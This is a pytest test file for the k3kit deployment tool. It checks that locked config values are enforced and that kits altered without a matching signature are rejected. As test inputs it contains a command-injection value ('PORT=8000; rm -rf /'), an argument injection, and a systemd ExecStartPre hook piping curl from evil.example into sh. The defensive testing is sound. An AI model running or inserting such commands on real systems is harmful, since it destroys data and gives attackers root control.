"""Three tiers of values: locked (signed), site (the buyer's, schema-checked), runtime.

`k3kit render-site` refuses a site line that would change a locked value, names the file, line
and key, and says what to do; `k3kit launch` takes node rank and leader address only as runtime
values and turns them into the engine's own multi-node flags.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conftest import GoldenKit, KeyFiles, run_k3kit
from tests.launchkit import launch, make_fake_engine

GOOD = "MODEL_DIR=/srv/models/kimi\nHOST=127.0.0.1\n"
IMAGE = "IMAGE=r.example/k3kit@sha256:" + "b" * 64 + "\n"


def _render(golden: GoldenKit, tmp_path: Path, site_text: str) -> tuple[int, str, Path]:
    site = tmp_path / "site.env"
    site.write_text(site_text)
    out = tmp_path / "out"
    proc = run_k3kit(
        "render-site", golden.kit, "--trust", golden.key.public, "--site", site, "-o", out, "--json"
    )
    assert "Traceback" not in proc.stderr
    return proc.returncode, proc.stdout + proc.stderr, site


@pytest.mark.parametrize(
    ("line", "code", "needle"),
    [
        ("TENSOR_PARALLEL_SIZE=4", "SITE_LOCKED_VALUE", "tensor-parallel-size = 8"),
        ("HF_HUB_OFFLINE=0", "SITE_LOCKED_VALUE", "engine.env: HF_HUB_OFFLINE = 1"),
        ("NODE_RANK=1", "SITE_LOCKED_VALUE", "runtime value"),
        ("MODEL_DIRECTORY=/srv", "SITE_INVALID", "did you mean MODEL_DIR?"),
        ("PORT=8000; rm -rf /", "SITE_INVALID", "PORT"),
        ("IMAGE=vllm/vllm-openai:latest", "SITE_INVALID", "by digest"),
        ("LEADER_ADDRESS=--trust-remote-code", "SITE_INVALID", "LEADER_ADDRESS"),
        ("RDZV_PORT=99999", "SITE_INVALID", "RDZV_PORT must be 1-65535"),
    ],
)
def test_site_value_that_would_change_a_locked_one_is_refused(
    golden: GoldenKit, tmp_path: Path, line: str, code: str, needle: str
) -> None:
    rc, output, site = _render(golden, tmp_path, GOOD + line + "\n")
    assert rc == 3, output
    assert code in output and needle in output and f"{site}:3" in output, output
    assert not (tmp_path / "out").exists()


def test_render_site_fills_site_values_only(golden: GoldenKit, tmp_path: Path) -> None:
    rc, output, _ = _render(golden, tmp_path, GOOD + IMAGE + "PORT=9000\n")
    assert rc == 0, output
    out = tmp_path / "out"
    compose = (out / "interactive/single-node-8gpu/compose.yaml").read_text()
    assert "/srv/models/kimi:/weights:ro" in compose and '"9000"' in compose
    assert "${MODEL_DIR}" not in compose and "${NODE_RANK" not in compose
    multi = (out / "batch/multi-node-8x8gpu/compose.yaml").read_text()
    assert "${NODE_RANK:?set NODE_RANK}" in multi  # runtime: stays for the node to set
    assert (out / "launch.env").read_text() == (
        "MODEL_DIR=/srv/models/kimi\nK3KIT_TRUST_KEY=/etc/k3kit/publisher.pub\n"
        "HOST=127.0.0.1\nPORT=9000\n"
    )
    listed = json.loads(output[: output.index("\n}\n") + 2])["files"]
    assert "site.env" in listed and "batch/multi-node-8x8gpu/k8s/leaderworkerset.yaml" in listed


def test_multi_node_launch_adds_runtime_flags(golden: GoldenKit, tmp_path: Path, kit: Path) -> None:
    fake = make_fake_engine(tmp_path / "engine")
    common = (
        "--profile",
        "batch",
        "--topology",
        "multi-node-8x8gpu",
        "--trust",
        golden.key.public,
        "--weights",
        golden.snapshot,
        "--state-dir",
        tmp_path / "s",
        "--dry-run",
        "--json",
    )
    code, stderr, out = launch(kit, fake, *common)
    assert code == 3 and out["error"]["code"] == "RUNTIME_VALUES_MISSING", stderr
    code, stderr, out = launch(kit, fake, *common, "--node-rank", "2", "--leader", "10.0.0.1")
    assert code == 0, stderr
    argv = out["argv"]
    assert argv[-7:] == [
        "--data-parallel-address",
        "10.0.0.1",
        "--data-parallel-rpc-port",
        "13345",
        "--data-parallel-start-rank",
        "2",
        "--headless",
    ]
    code, stderr, out = launch(kit, fake, *common, "--node-rank", "8", "--leader", "h")
    assert code == 3 and "outside 0..7" in stderr


UNIT = "profiles/interactive/single-node-8gpu/systemd/k3kit-kimi-k3-b300x8-interactive.service"
ROOT_HOOK = "ExecStartPre=/bin/sh -c 'curl -s http://evil.example/x | sh'\n"


def _add_exec_start_pre(kit: Path, *, update_manifest: bool) -> None:
    """What an attacker who can write the kit folder does: one line in the unit, before the
    unit's own verify, and (when asked) the manifest's entry recomputed to match."""
    from k3kit.formats.manifest import build_manifest, manifest_bytes

    unit = kit / UNIT
    unit.write_text(unit.read_text().replace("ExecStartPre=", ROOT_HOOK + "ExecStartPre=", 1))
    if update_manifest:
        (kit / "MANIFEST.json").write_bytes(manifest_bytes(build_manifest(kit)))


@pytest.mark.parametrize(
    ("update_manifest", "code"),
    [(True, "RECEIPT_KIT_MISMATCH"), (False, "KIT_FILE_CHANGED")],
    ids=["manifest-entry-updated", "manifest-untouched"],
)
def test_render_site_refuses_a_unit_with_an_added_exec_start_pre(
    golden: GoldenKit, tmp_path: Path, update_manifest: bool, code: str
) -> None:
    """The attack: an ``ExecStartPre=`` added to the kit's systemd unit would run as root before
    the unit's own ``k3kit verify``. render-site verifies the kit against the signed receipt
    first: nothing is written, exit 1, and the hook appears in no output."""
    import shutil

    kit = tmp_path / "kit"
    shutil.copytree(golden.kit, kit)
    _add_exec_start_pre(kit, update_manifest=update_manifest)
    site = tmp_path / "site.env"
    site.write_text(GOOD + IMAGE)
    out = tmp_path / "out"
    proc = run_k3kit(
        "render-site", kit, "--trust", golden.key.public, "--site", site, "-o", out, "--json"
    )
    assert proc.returncode == 1, proc.stderr
    report = json.loads(proc.stdout)
    assert report["ok"] is False and report["output"] is None
    assert code in {c.get("code") for c in report["checks"]} | {
        p["code"] for c in report["checks"] for p in c.get("problems", [])
    }, proc.stdout
    assert "nothing was written" in proc.stderr
    assert not out.exists()


def test_render_site_needs_a_trusted_key_or_root(golden: GoldenKit, tmp_path: Path) -> None:
    site = tmp_path / "site.env"
    site.write_text(GOOD + IMAGE)
    proc = run_k3kit("render-site", golden.kit, "--site", site, "-o", tmp_path / "out")
    assert proc.returncode == 2 and "--trust" in proc.stderr
    assert not (tmp_path / "out").exists()


def test_render_site_refuses_a_kit_signed_by_another_key(
    golden: GoldenKit, other_key: KeyFiles, tmp_path: Path
) -> None:
    site = tmp_path / "site.env"
    site.write_text(GOOD + IMAGE)
    out = tmp_path / "out"
    proc = run_k3kit(
        "render-site", golden.kit, "--trust", other_key.public, "--site", site, "-o", out
    )
    assert proc.returncode == 1 and "RECEIPT_UNTRUSTED_KEY" in proc.stderr, proc.stderr
    assert not out.exists()
